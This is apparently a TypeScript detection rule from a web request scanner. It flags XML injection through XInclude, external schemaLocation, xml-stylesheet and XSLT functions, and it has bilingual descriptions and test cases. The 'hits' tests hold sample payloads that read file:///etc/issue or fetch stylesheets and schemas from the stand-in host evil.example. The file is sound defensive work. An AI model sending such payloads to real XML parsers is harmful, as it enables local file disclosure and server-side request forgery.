import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'xxe/include',
  title: 'XML that fetches something',
  why: 'XInclude, a schema, a style sheet or an import makes an XML parser open an address or a file for the attacker, without a document type.',
  ja: {
    title: '外部を読み込む XML（XInclude など）',
    why: 'XInclude・スキーマ・スタイルシート・インポートを使い、文書型宣言なしで XML パーサーに URL やファイルを読ませようとしています。',
    falsePositives:
      'XML のフィルターで問い合わせを受ける地図サーバーです。OGC の schemaLocation は除いています。',
  },
  severity: 'medium',
  stage: 'inject',
  attack: ['T1190'],
  cwe: [611, 918],
  refs: [
    'https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing',
    'https://www.w3.org/TR/xinclude/',
    'https://portswigger.net/web-security/xxe',
  ],
  falsePositives:
    'Map servers that are asked with XML filters: a schemaLocation of the OGC is left alone.',

  where: ['path', 'query', 'referrer', 'agent'],
  needs: [['xinclude', ':include', 'schemalocation', ':import', 'xml-stylesheet', '<xsl:']],
  match:
    /<(?:\w{1,20}:)?include\s[^>]{0,60}\b(?:href|namespace|schemalocation)\s{0,3}=|www\.w3\.org\/2001\/xinclude|\b(?:no)?(?:namespace)?schemalocation\s{0,3}=\s{0,3}["'](?![^"']{0,60}(?:opengis|w3)\.(?:net|org))|<\w{1,20}:import\s[^>]{0,60}=|<\?xml-stylesheet[^>]{1,60}\bhref\s{0,3}=\s{0,3}["'](?:https?:|file:|ftp:|\/\/)|<xsl:[^>]{1,60}(?:document|system-property|unparsed-text)\(/i,

  hits: [
    'GET /api?xml=<a+xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include+href="file:///etc/issue"/></a> HTTP/1.1',
    'GET /api?xml=<a+xsi:schemaLocation="http://evil.example/a+http://evil.example/a.xsd"/> HTTP/1.1',
    'GET /api?xml=<?xml-stylesheet+href="http://evil.example/a.xsl"?> HTTP/1.1',
    ...each(
      'GET /api?xml=<?xml-stylesheet+href="{}//evil.example/a.xsl"?> HTTP/1.1',
      'file: ftp: //',
    ),
    'GET /<a%20xmlns:xi="http:/www.w3.org/2001/XInclude"><xi:include%20href="file:/etc/issue"/></a> HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer:
        'https://www.example.com/api?xml=<a+xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include+href="file:///etc/issue"/></a>',
    },
    {
      request: 'GET / HTTP/1.1',
      agent:
        '<a xmlns:xi="http:/www.w3.org/2001/XInclude"><xi:include href="file:/etc/issue"/></a>',
    },
    ...each(
      'GET /a?x={} HTTP/1.1',
      `<xi:include+href="a"> <a:include+namespace="a"> <xs:include+schemaLocation="a"> xmlns="http://www.w3.org/2001/XInclude"
    <xs:import+namespace="a"> <xsl:copy-of+select="document('a')"> <xsl:value-of+select="system-property('a')">
    <xsl:value-of+select="unparsed-text('a')">`,
    ),
  ],
  misses: [
    'GET /wfs?filter=<Filter+xsi:schemaLocation="http://www.opengis.net/wfs+a.xsd"> HTTP/1.1',
    'GET /docs/xinclude.html HTTP/1.1',
    'GET /s?q=c:include+path HTTP/1.1',
    {
      message:
        'upstream timed out, request: "GET /api?xml=<a+xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include+href="file:///etc/issue"/></a> HTTP/1.1"',
    },
    'GET /a?x=<xi:include+myhref="a"> HTTP/1.1',
    'GET /api?xml=<a+xsi:myschemaLocation="http://evil.example/a+http://evil.example/a.xsd"/> HTTP/1.1',
    'GET /api?xml=<?xml-stylesheet+myhref="http://evil.example/a.xsl"?> HTTP/1.1',
  ],
})
